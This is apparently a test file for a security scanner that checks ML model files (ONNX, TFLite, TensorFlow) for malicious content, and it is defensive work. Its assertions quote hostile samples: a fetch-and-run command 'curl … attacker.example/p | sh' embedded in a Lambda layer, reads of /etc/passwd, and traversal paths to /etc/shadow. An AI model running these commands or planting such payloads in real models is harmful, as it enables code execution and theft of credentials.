// Graph formats end to end (scan() and the exit-code contract): files written by onnx stay clean, every
// hostile field is reported under its rule, external data is checked against the file system next to
// the model, and malformed inputs end in `error` quickly and with bounded memory.
import assert from 'node:assert/strict';
import { linkSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, writeFileSync, copyFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { BufferSource } from '../../src/formats/source.ts';
import { graphRules } from '../../src/scan/rules/graph.ts';
import { scanSource } from '../../src/scan/walker.ts';
import type { ScanReport } from '../../src/scan/model.ts';
import { storedZip } from '../helpers/archives.ts';
import { concat, fb, fv, varint } from '../helpers/protobuf.ts';
import { FIXTURES, atLeast, findingsAbove, scanOne } from '../helpers/scan.ts';

const G = `${FIXTURES}/graph`;
const seen = new Set<string>();
const tmp = mkdtempSync(join(tmpdir(), 'modelgate-graph-'));
after(() => rmSync(tmp, { recursive: true, force: true }));

async function scanPath(p: string) {
  const r = await scanOne(p);
  for (const f of r.report.files) for (const x of f.findings) seen.add(x.ruleId);
  return r;
}

const rules = (report: ScanReport) => report.files.flatMap((f) => f.findings.map((x) => `${x.ruleId}:${x.severity}`));
const entries = (d: string) => readdirSync(d).filter((f) => f !== 'make_fixtures.py' && f !== 'tflite_subset.fbs').sort();

/** A one-initializer model whose 4×8 float tensor lives in an external file at `location`. */
function externalModel(location: string, offset = 0, length = 128): Uint8Array {
  const entry = (k: string, v: string) => fb(13, fb(1, k), fb(2, v));
  const tensor = concat(fv(1, 4), fv(1, 8), fv(2, 1), fb(8, 'W1'), entry('location', location), entry('offset', String(offset)), entry('length', String(length)), fv(14, 1));
  const graph = concat(fb(1, fb(1, 'x'), fb(1, 'W1'), fb(2, 'y'), fb(4, 'MatMul')), fb(2, 'g'), fb(5, tensor));
  return concat(fv(1, 8), fb(2, 'test'), fb(7, graph), fb(8, fv(2, 13)));
}

describe('clean models', () => {
  for (const name of entries(`${G}/clean`)) {
    it(`clean: ${name}`, async () => {
      const { report, code } = await scanPath(`${G}/clean/${name}`);
      assert.equal(code, 0, findingsAbove(report, 'low').join('; '));
      assert.deepEqual(findingsAbove(report, 'low'), []);
      assert.equal(report.summary.errors, 0);
      assert.ok(report.files.some((f) => ['onnx', 'tflite', 'tf-savedmodel', 'tf-graphdef'].includes(f.format)), JSON.stringify(report.files.map((f) => f.format)));
    });
  }

  it('the clean SavedModel folder is fully identified', async () => {
    const { report } = await scanPath(`${G}/clean/savedmodel`);
    assert.deepEqual(report.files.map((f) => [f.path.split('/').pop(), f.format, f.status]), [
      ['fingerprint.pb', 'tf-fingerprint', 'scanned'],
      ['keras_metadata.pb', 'keras-metadata', 'scanned'],
      ['saved_model.pb', 'tf-savedmodel', 'scanned'],
    ]);
  });
});

const MALICIOUS: Record<string, string> = {
  'abs_location.onnx': 'MG-ONNX-001:critical',
  'backslash_traversal.onnx': 'MG-ONNX-001:critical',
  'constant_attr_traversal.onnx': 'MG-ONNX-001:critical',
  'sparse_drive_path.onnx': 'MG-ONNX-001:critical',
  'subgraph_traversal.onnx': 'MG-ONNX-001:critical',
  'python_op.onnx': 'MG-ONNX-006:high',
  external_symlink: 'MG-ONNX-002:high',
  'flex_readfile.tflite': 'MG-TFL-003:high',
  'frozen_readfile.pb': 'MG-TF-001:high',
  savedmodel_readfile: 'MG-TF-001:high',
  savedmodel_writefile: 'MG-TF-001:high',
  savedmodel_pyfunc: 'MG-TF-002:high',
  savedmodel_restore_traversal: 'MG-TF-003:high',
  savedmodel_asset_traversal: 'MG-TF-004:high',
  savedmodel_lambda: 'MG-TF-005:high',
  savedmodel_lambda_legacy: 'MG-TF-005:high',
};

describe('malicious models', () => {
  it('every malicious fixture has an expectation', () => assert.deepEqual(entries(`${G}/malicious`), Object.keys(MALICIOUS).sort()));
  for (const [name, want] of Object.entries(MALICIOUS)) {
    it(`malicious: ${name} → ${want}`, async () => {
      const { report, code, worst } = await scanPath(`${G}/malicious/${name}`);
      assert.equal(code, 1);
      assert.ok(atLeast(worst, 'high'));
      assert.ok(rules(report).includes(want), rules(report).join(', '));
      assert.equal(report.summary.errors, 0);
    });
  }

  it('shows the Lambda code, truncated, with the strings it carries', async () => {
    const { report } = await scanPath(`${G}/malicious/savedmodel_lambda`);
    const f = report.files.flatMap((x) => x.findings).find((x) => x.ruleId === 'MG-TF-005')!;
    assert.ok(String(f.evidence.code).endsWith('…') && String(f.evidence.code).length <= 121);
    assert.ok((f.evidence.names as string[]).includes('curl -s https://attacker.example/p | sh'));
    assert.equal(report.files.flatMap((x) => x.findings).filter((x) => x.ruleId === 'MG-TF-005').length, 1, 'the same layer in the model and layer metadata is reported once');
  });

  it('flags every ReadFile path and PrintV2 file stream of a frozen graph', async () => {
    const { report } = await scanPath(`${G}/malicious/frozen_readfile.pb`);
    const msgs = report.files[0].findings.map((f) => f.message).join('\n');
    assert.match(msgs, /ReadFile.*"\/etc\/passwd"/);
    assert.match(msgs, /PrintV2 writing to "file:\/\/\/tmp\/leak.txt"/);
  });
});

const REVIEW: Record<string, string> = {
  'custom_domain.onnx': 'MG-ONNX-005:medium',
  'raw_size_mismatch.onnx': 'MG-ONNX-004:medium',
  external_out_of_bounds: 'MG-ONNX-003:medium',
  'custom_op.tflite': 'MG-TFL-001:medium',
  'flex_math.tflite': 'MG-TFL-002:low',
  'tflite_buffer_outside.tflite': 'MG-TFL-004:medium',
  'tflite_bad_opcode_index.tflite': 'MG-TFL-004:medium',
  keras_custom_module: 'MG-TF-006:medium',
};

describe('models to review', () => {
  it('every review fixture has an expectation', () => assert.deepEqual(entries(`${G}/review`), Object.keys(REVIEW).sort()));
  for (const [name, want] of Object.entries(REVIEW)) {
    it(`review: ${name} → ${want}`, async () => {
      const { report, code } = await scanPath(`${G}/review/${name}`);
      assert.equal(code, 0);
      assert.deepEqual(findingsAbove(report, 'medium'), []);
      assert.ok(rules(report).includes(want), rules(report).join(', '));
    });
  }
});

describe('hostile inputs', () => {
  for (const name of entries(`${G}/hostile`)) {
    it(`hostile: ${name} ends in error with a finding, bounded`, async () => {
      const rss = process.memoryUsage().rss;
      const t0 = performance.now();
      const { report, code } = await scanPath(`${G}/hostile/${name}`);
      const errored = report.files.filter((f) => f.status === 'error');
      assert.ok(errored.length > 0, JSON.stringify(report.files.map((f) => [f.path, f.status, f.findings.map((x) => x.ruleId)])));
      for (const f of errored) assert.ok(f.findings.length > 0);
      assert.equal(code, 2);
      assert.ok(!errored.some((f) => f.format === 'binary' || f.format === 'unknown'), 'identified as its format, not as unknown bytes');
      assert.ok(performance.now() - t0 < 5000);
      assert.ok((process.memoryUsage().rss - rss) / 2 ** 20 < 200);
    });
  }

  it('100,000-deep subgraph nesting: error status, quickly', async () => {
    const leaf = fb(1, fb(4, 'Identity'));
    const prefixes: Uint8Array[] = [];
    let size = leaf.length;
    for (let i = 0; i < 100_000; i++) {
      const attrHead = concat(fb(1, 'g'), fv(20, 5), varint((6 << 3) | 2), varint(size));
      const nodeHead = concat(fb(4, 'If'), varint((5 << 3) | 2), varint(attrHead.length + size));
      const graphHead = concat(varint((1 << 3) | 2), varint(nodeHead.length + attrHead.length + size));
      prefixes.push(concat(graphHead, nodeHead, attrHead));
      size += graphHead.length + nodeHead.length + attrHead.length;
    }
    const bytes = concat(fv(1, 8), fb(2, 'x'), varint((7 << 3) | 2), varint(size), ...prefixes.reverse(), leaf);
    const t0 = performance.now();
    const rows = await scanSource(new BufferSource(bytes), 'deep.onnx', { hash: false });
    assert.equal(rows[0].status, 'error');
    assert.equal(rows[0].findings[0].ruleId, 'MG-LIM-001');
    assert.ok(performance.now() - t0 < 1000);
  });

  it('a 2 GiB-or-larger claim and a 1 GB string declared in a tiny file: error status', async () => {
    for (const bytes of [
      concat(fv(1, 8), fb(2, 'x'), varint((7 << 3) | 2), varint(2n ** 62n), fb(1, '')),
      concat(fv(1, 8), fb(7, concat(varint((1 << 3) | 2), varint(8), varint((4 << 3) | 2), varint(1 << 30), Uint8Array.from([0x52, 0x65, 0x6c, 0x75])))),
    ]) {
      const rows = await scanSource(new BufferSource(bytes), 'x.onnx', { hash: false });
      assert.equal(rows[0].status, 'error');
      assert.equal(rows[0].findings[0].ruleId, 'MG-ONNX-008');
    }
  });
});

describe('many findings', () => {
  it('lists twenty findings per rule and summarises the rest', async () => {
    const tensors = Array.from({ length: 30 }, (_, i) => fb(5, fv(1, 4), fv(2, 1), fb(8, `t${i}`), fb(9, new Uint8Array(3))));
    const model = concat(fv(1, 8), fb(2, 'x'), fb(7, fb(1, fb(4, 'Relu')), ...tensors), fb(8, fv(2, 13)));
    const rows = await scanSource(new BufferSource(model), 'many.onnx', { hash: false });
    const f = rows[0].findings.filter((x) => x.ruleId === 'MG-ONNX-004');
    assert.equal(f.length, 21);
    assert.match(f[20].message, /10 more findings/);
  });
});

describe('external data on the file system', () => {
  const folder = (name: string) => {
    const d = join(tmp, name);
    mkdirSync(d, { recursive: true });
    return d;
  };

  it('a symbolic link to a file outside the folder is high; a link inside is fine', async () => {
    const d = folder('symlink-out');
    writeFileSync(join(tmp, 'secret.bin'), new Uint8Array(128));
    symlinkSync(join(tmp, 'secret.bin'), join(d, 'model.onnx_data'));
    copyFileSync(`${G}/clean/external/model.onnx`, join(d, 'model.onnx'));
    const { report, code } = await scanPath(join(d, 'model.onnx'));
    assert.equal(code, 1);
    assert.ok(rules(report).includes('MG-ONNX-002:high'), rules(report).join(', '));

    const inside = folder('symlink-in');
    writeFileSync(join(inside, 'real.bin'), readFileSync(`${G}/clean/external/model.onnx_data`));
    symlinkSync('real.bin', join(inside, 'model.onnx_data'));
    copyFileSync(`${G}/clean/external/model.onnx`, join(inside, 'model.onnx'));
    const ok = await scanPath(join(inside, 'model.onnx'));
    assert.deepEqual(findingsAbove(ok.report, 'low'), []);
  });

  it('a hard link is medium, a folder is high, a missing file is low', async () => {
    const d = folder('hardlink');
    writeFileSync(join(tmp, 'other.bin'), readFileSync(`${G}/clean/external/model.onnx_data`));
    linkSync(join(tmp, 'other.bin'), join(d, 'model.onnx_data'));
    copyFileSync(`${G}/clean/external/model.onnx`, join(d, 'model.onnx'));
    assert.ok(rules((await scanPath(join(d, 'model.onnx'))).report).includes('MG-ONNX-002:medium'));

    const dd = folder('dir');
    mkdirSync(join(dd, 'model.onnx_data'));
    copyFileSync(`${G}/clean/external/model.onnx`, join(dd, 'model.onnx'));
    assert.ok(rules((await scanPath(join(dd, 'model.onnx'))).report).includes('MG-ONNX-002:high'));

    const m = folder('missing');
    copyFileSync(`${G}/clean/external/model.onnx`, join(m, 'model.onnx'));
    const missing = await scanPath(join(m, 'model.onnx'));
    assert.equal(missing.code, 0);
    assert.ok(rules(missing.report).includes('MG-ONNX-003:low'));
  });

  it('a dangling symbolic link is high', async () => {
    const d = folder('dangling');
    symlinkSync(join(tmp, 'does-not-exist'), join(d, 'model.onnx_data'));
    copyFileSync(`${G}/clean/external/model.onnx`, join(d, 'model.onnx'));
    assert.ok(rules((await scanPath(join(d, 'model.onnx'))).report).includes('MG-ONNX-002:high'));
  });

  it('grades every shape of location string', async () => {
    const cases: Array<[string, string | null]> = [
      ['/etc/shadow', 'critical'], ['C:\\Windows\\win.ini', 'critical'], ['\\\\server\\share\\x', 'critical'], ['//server/share', 'critical'],
      ['a/../../b', 'critical'], ['w\u0000.bin', 'critical'], ['a/../b.bin', 'medium'], ['https://example.com/w.bin', 'medium'],
      ['weights/w.bin', null], ['./w.bin', null], ['w..bin', null],
    ];
    for (const [location, severity] of cases) {
      const rows = await scanSource(new BufferSource(externalModel(location)), 'model.onnx', { hash: false });
      const got = rows[0].findings.filter((f) => f.ruleId === 'MG-ONNX-001').map((f) => f.severity);
      assert.deepEqual(got, severity ? [severity] : [], location);
    }
  });

  it('archive members and in-memory models are judged by their strings only, never against the working folder', async () => {
    // "package.json" exists in the working folder and is not 128 bytes: a lookup there would report it.
    const model = externalModel('package.json');
    const rows = await scanSource(new BufferSource(model), 'model.onnx', { hash: false });
    assert.deepEqual(rows.flatMap((r) => r.findings.map((f) => f.ruleId)), []);
    const zipped = await scanSource(new BufferSource(storedZip([['m/model.onnx', externalModel('../../../etc/passwd')]])), 'bundle.zip', { hash: false });
    const found = zipped.flatMap((r) => r.findings.map((f) => `${f.ruleId}:${f.severity}:${f.path}`));
    assert.ok(found.includes('MG-ONNX-001:critical:bundle.zip!m/model.onnx'), found.join(', '));
  });

  it('a 128 MB inline model scans in well under a second of parsing, reading almost none of it', async () => {
    const raw = 128 << 20;
    const tensorHead = concat(fv(1, 8192), fv(1, 4096), fv(2, 1), fb(8, 'W'), varint((9 << 3) | 2), varint(raw));
    const initHead = concat(varint((5 << 3) | 2), varint(tensorHead.length + raw));
    const graphLen = initHead.length + tensorHead.length + raw;
    const before = concat(fv(1, 8), fb(2, 'x'), varint((7 << 3) | 2), varint(graphLen), initHead, tensorHead);
    const path = join(folder('big'), 'big.onnx');
    writeFileSync(path, before);
    writeFileSync(path, new Uint8Array(raw), { flag: 'a' });
    writeFileSync(path, fb(8, fv(2, 13)), { flag: 'a' });
    assert.equal(statSync(path).size, before.length + raw + 4);
    const rss = process.memoryUsage().rss;
    const t0 = performance.now();
    const { report, code } = await scanPath(path);
    assert.equal(code, 0, JSON.stringify(report.files));
    assert.equal(report.files[0].format, 'onnx');
    assert.ok(performance.now() - t0 < 1000, `${performance.now() - t0} ms`);
    assert.ok((process.memoryUsage().rss - rss) / 2 ** 20 < 64);
  });
});

describe('rule coverage', () => {
  it('every graph rule was produced by a test above', () => {
    for (const r of graphRules) assert.ok(seen.has(r.id), `${r.id} was never reported`);
  });
});
